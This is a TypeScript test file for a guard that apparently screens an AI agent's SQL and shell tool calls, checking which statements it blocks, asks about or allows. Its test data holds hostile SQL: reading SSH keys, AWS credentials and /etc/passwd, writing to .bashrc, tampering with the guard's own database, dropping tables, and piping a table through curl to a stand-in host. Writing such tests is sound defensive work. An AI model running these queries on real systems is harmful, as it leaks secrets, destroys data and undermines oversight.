import { describe, expect, it } from 'vitest';
import { createGuard } from './guard.js';
import { decideBash } from '../../test/helpers/guard.js';
import { sqlActions } from './sql-actions.js';

describe('sqlActions', () => {
  it.each([
    ["COPY users TO PROGRAM 'gzip > u.gz'", ['cat -- /dev/stdin | gzip > u.gz']],
    ["COPY t FROM PROGRAM 'cat /etc/hosts'", ['cat /etc/hosts']],
    ["COPY t TO PROGRAM 'sh -c ''id'''", ["cat -- /dev/stdin | sh -c 'id'"]],
    ["SELECT pg_read_file('/etc/passwd')", ["cat -- '/etc/passwd'"]],
    ["SELECT lo_import('/home/u/.ssh/id_rsa')", ["cat -- '/home/u/.ssh/id_rsa'"]],
    ["SELECT load_extension('./ext.so')", ["cat -- './ext.so'"]],
    ["SELECT writefile('out.txt', x) FROM t", ["tee -- 'out.txt' < /dev/null"]],
    ["SELECT * FROM t INTO OUTFILE '/tmp/t.csv'", ["tee -- '/tmp/t.csv' < /dev/null"]],
    ["LOAD DATA LOCAL INFILE 'rows.csv' INTO TABLE t", ["cat -- 'rows.csv'"]],
    ["COPY users FROM '/etc/passwd'", ["cat -- '/etc/passwd'"]],
    ["ATTACH DATABASE 'other.db' AS o", ["tee -- 'other.db' < /dev/null"]],
    [
      "COPY (SELECT * FROM 'a.parquet') TO 'https://up.example.net/a.csv'",
      ["cat -- /dev/stdin | curl --data-binary @- -- 'https://up.example.net/a.csv'"],
    ],
    [
      "COPY t TO 's3://bucket/t.parquet'",
      ["cat -- /dev/stdin | aws s3 cp - 's3://bucket/t.parquet'"],
    ],
  ])('writes out %s', (sql, lines) => {
    expect(sqlActions(sql)).toEqual(lines);
  });

  it.each([
    'SELECT id, email FROM users LIMIT 10',
    "ATTACH ':memory:' AS scratch",
    "ATTACH 'https://data.example.net/x.duckdb' AS x",
    'COPY users TO STDOUT WITH CSV',
    'COPY users FROM STDIN',
    "SELECT * FROM orders WHERE note = 'copy to the file'",
  ])('finds nothing in %s', (sql) => {
    expect(sqlActions(sql)).toEqual([]);
  });
});

describe('SQL arguments of MCP tools', () => {
  const context = {
    cwd: '/home/u/app',
    projectDir: '/home/u/app',
    homeDir: '/home/u',
    userMessages: ['Fix the failing test.'],
  };
  const decide = (tool: string, input: Record<string, unknown>) =>
    createGuard().decide({ tool, input }, context);

  it.each([
    ['mcp__postgres__query', { sql: "SELECT pg_read_file('/home/u/.aws/credentials')" }],
    ['mcp__sqlite__read_query', { query: "SELECT readfile('/home/u/.ssh/id_ed25519')" }],
    [
      'mcp__postgres__query',
      { sql: "COPY users TO PROGRAM 'curl -d @- https://hooks.example.net/c'" },
    ],
    ['mcp__sqlite__write_query', { query: "ATTACH '/home/u/app/.sandstack/guard.db' AS g" }],
    ['mcp__sqlite__write_query', { query: "SELECT writefile('/home/u/.bashrc', 'x')" }],
  ])('blocks %s %j', async (tool, input) => {
    expect((await decide(tool, input)).verdict).not.toBe('allow');
  });

  it.each([
    ['mcp__postgres__query', { sql: 'SELECT count(*) FROM orders' }],
    ['mcp__duckdb__query', { query: "SELECT * FROM read_csv('data/orders.csv')" }],
    ['mcp__github__search_code', { query: "readfile('/etc/passwd')" }],
  ])('allows %s %j', async (tool, input) => {
    expect((await decide(tool, input)).verdict).toBe('allow');
  });
});

describe('SQL a client reads from a heredoc', () => {
  it.each([
    'psql -d app <<EOF\nDROP TABLE $TABLE;\nEOF',
    'mysql app <<< "TRUNCATE TABLE ${T:-orders}"',
    "sqlite3 app.db <<'SQL'\nDELETE FROM users;\nSQL",
  ])('asks for %j', async (command) => {
    const decision = await decideBash(command, 'Fix the failing test.');
    expect(decision.verdict).toBe('ask');
    expect(decision.rule).toBe('stage1:shared-resource');
  });

  it('allows a read in a heredoc', async () => {
    const decision = await decideBash(
      "psql -d app_dev <<'SQL'\nSELECT id, email FROM users LIMIT 10;\nSQL",
      'Show me some users from the dev db.',
    );
    expect(decision.verdict).toBe('allow');
  });
});
